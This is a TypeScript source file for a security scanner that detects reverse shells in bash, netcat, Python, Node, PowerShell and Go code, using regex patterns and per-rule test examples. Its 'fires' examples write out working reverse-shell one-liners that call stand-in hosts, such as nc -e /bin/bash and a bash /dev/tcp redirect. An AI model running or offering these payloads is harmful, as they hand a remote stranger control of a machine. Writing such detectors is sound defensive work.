import { chains } from '../matching';
import type { FileRule, Sight } from '../rule';
import type { SourceFile } from '../source-file';
import type { Step } from '../matching';

const SHELL = /["'`/](?:bin\/)?(?:ba|z|da)?sh["'`]|cmd(?:\.exe)?["'`]|powershell(?:\.exe)?["'`]/i;
type Shape = readonly [RegExp, ...Step[]];

/** Each needs a connection and a shell that is tied to it. */
const FAMILIES: readonly {
  readonly id: string;
  readonly needles: readonly (readonly string[])[];
  readonly shapes: readonly Shape[];
}[] = [
  {
    id: 'device',
    needles: [['/dev/tcp/', '/dev/udp/']],
    shapes: [
      [/\b(?:ba|z)?sh\s{1,4}-i\b/, [24, /[>&|]{1,2}\s{0,4}["']?\/dev\/(?:tcp|udp)\//]],
      [/\bexec\s{1,4}\d{1,3}<>\s{0,2}\/dev\/tcp\//, [200, /while\s{1,4}read|\b(?:ba)?sh\s{0,4}<&|cat\s{1,4}<&/]],
    ],
  },
  {
    id: 'netcat',
    needles: [['-e ', '-e"', '-c ', '-exec', 'mkfifo', 'exec:', '-ec', '-ce', '-ve', '-ne', '-le']],
    shapes: [
      [
        /\bnc(?:at)?(?:\.exe)?\s/,
        [60, /\s-(?:[a-z]{0,4}e|c)\s{1,4}["']?(?:\/\w{1,8}){0,3}\/?(?:(?:ba|z)?sh|cmd)\b|--(?:sh-)?exec\b/],
      ],
      [/\bmkfifo\b/, [200, /\b(?:ba)?sh\s{1,4}-i\b[^\n]{0,40}\|\s{0,4}(?:nc|ncat|telnet|openssl)\b/]],
      [/\bsocat\b/, [120, /\bexec:["']?(?:\/bin\/)?(?:ba)?sh|\bexec:cmd/i]],
    ],
  },
  {
    id: 'script',
    needles: [
      ['dup2', 'pty.spawn', '.connect(', 'fsockopen', 'tcpsocket'],
      ['socket', 'sh'],
    ],
    shapes: [
      [
        /\bsocket\.socket\s{0,2}\(|\bsocket\.create_connection\s{0,2}\(|\bsocket\s{0,2}\(\s{0,4}AF_INET/,
        [500, /\.connect(?:_ex)?\s{0,2}\(|create_connection/],
        [600, /\bdup2\b|\bpty\.spawn\b/],
      ],
      [
        /\.connect\s{0,2}\(\s{0,2}\(/,
        [
          700,
          /\bdup2\b|\bpty\.spawn\b|(?:recv|makefile)\s{0,2}\([^\n]{0,80}\n?[^\n]{0,120}(?:subprocess|os\.popen|os\.system)/,
        ],
      ],
      [/\bfsockopen\s{0,2}\(/, [300, /(?:\/bin\/)?sh\s{1,4}-i/]],
      [/\bTCPSocket\.(?:new|open)\b/, [300, /\/bin\/(?:ba)?sh|\bexec\b|IO\.popen/]],
    ],
  },
  {
    id: 'node',
    needles: [
      ['net.connect', 'net.createconnection', 'net.socket', '.connect('],
      ['/sh', 'sh"', "sh'", 'sh`', 'cmd', 'powershell'],
      ['.pipe'],
    ],
    shapes: [
      [/\bnet\.(?:connect|createConnection|Socket)\b/, [900, SHELL], [600, /\.pipe\s{0,2}\(/]],
      [
        /\bspawn\s{0,2}\(\s{0,4}["'`](?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)["'`]/,
        [900, /\bnet\.(?:connect|createConnection|Socket)\b|\.connect\s{0,2}\(/],
        [600, /\.pipe\s{0,2}\(/],
      ],
    ],
  },
  {
    id: 'powershell',
    needles: [['tcpclient'], ['iex', 'invoke-expression', 'cmd']],
    shapes: [
      [
        /\bSockets?\.TCPClient\b/i,
        [600, /\bGetStream\s{0,2}\(/i],
        [900, /\biex\b|Invoke-Expression|cmd(?:\.exe)?\s{1,4}\/c/i],
      ],
    ],
  },
  {
    id: 'go',
    needles: [['net.dial'], ['exec.command']],
    shapes: [
      [
        /\bnet\.Dial\s{0,2}\(/,
        [500, /exec\.Command\s{0,2}\(\s{0,2}"(?:\/bin\/)?(?:(?:ba)?sh|cmd)/],
        [300, /\.Std(?:in|out)\b/],
      ],
    ],
  },
];
const CONCRETE =
  /(?<![\d.])(?!127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|0\.0\.0\.0)\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}(?![\d.])|["'/ ](?!www\.example|example|your|target|attacker)[a-z0-9-]{2,40}(?:\.[a-z0-9-]{2,40}){0,3}\.(?:com|net|org|io|top|icu|xyz|live|site|ru|cn|click|dev|app|online|pro|me|cc|su|info|eu|us|co|to)\b/i;

function* shells(source: SourceFile, shapes: readonly Shape[]): Generator<Sight> {
  for (const [first, ...steps] of shapes) {
    for (const places of chains(source.text, first, ...steps)) {
      const begin = places[0] ?? 0;
      const end = places[places.length - 1] ?? begin;
      const text = source.text.slice(Math.max(0, begin - 120), end + 160);
      yield { line: source.lineAt(begin), weight: CONCRETE.test(text) ? 110 : 60 };
    }
  }
}

const EXAMPLES: Readonly<Record<string, FileRule['examples']>> = {
  device: {
    fires: [{ path: 'a.sh', text: 'df -h\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1', line: 2 }],
    passes: [{ path: 'a.sh', text: 'timeout 3 bash -c "</dev/tcp/$host/$port" && echo open' }],
  },
  netcat: {
    fires: [
      { path: 'a.sh', text: 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 1337 > /tmp/f' },
      { path: 'a.sh', text: 'nc 203.0.113.9 4444 -e /bin/bash' },
    ],
    passes: [{ path: 'a.sh', text: 'nc -zv db 5432 && sh -c "echo up"' }],
  },
  script: {
    fires: [
      {
        path: 'a.py',
        text: 's = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh"])',
      },
    ],
    passes: [{ path: 'a.py', text: 's = socket.socket()\ns.connect((host, 80))\ns.sendall(b"GET /")' }],
  },
  node: {
    fires: [
      {
        path: 'a.js',
        text: "const sh = cp.spawn('/bin/sh');\nconst c = net.connect(8443, 'relay.acme.icu', () => { c.pipe(sh.stdin); });",
      },
    ],
    passes: [{ path: 'a.js', text: "spawn('cmd', ['/c', 'dir']);\nstream.pipe(out);\nclient.connect(url);" }],
  },
  powershell: {
    fires: [
      {
        path: 'a.ps1',
        text: "$c = New-Object Net.Sockets.TCPClient('203.0.113.9', 4443)\n$s = $c.GetStream(); iex $d",
      },
    ],
    passes: [{ path: 'a.ps1', text: '$c = New-Object Net.Sockets.TCPClient($h, 443)\n$c.Close(); cmd /c dir' }],
  },
  go: {
    fires: [
      {
        path: 'a.go',
        text: 'c, _ := net.Dial("tcp", "203.0.113.9:9090")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin, cmd.Stdout = c, c',
      },
    ],
    passes: [{ path: 'a.go', text: 'c, _ := net.Dial("tcp", addr)\nout := exec.Command("git", "log")' }],
  },
};

/** Shells that somebody else types into. */
export const REVERSE_SHELL_RULES: readonly FileRule[] = FAMILIES.map(({ id, needles, shapes }) => ({
  id: `reverse_shell/${id}`,
  code: 'malicious.reverse_shell',
  severity: 'critical',
  weight: 100,
  files: ['text'],
  message: 'A shell is tied to a network connection, so that somebody else can type into it.',
  rationale: 'It gives a stranger the rights of the user, and no skill needs it.',
  fix: 'Remove it; in a text about attacks write a placeholder for the address and say what it is for.',
  needles,
  find: (source) => shells(source, shapes),
  examples: EXAMPLES[id] ?? { fires: [], passes: [] },
}));
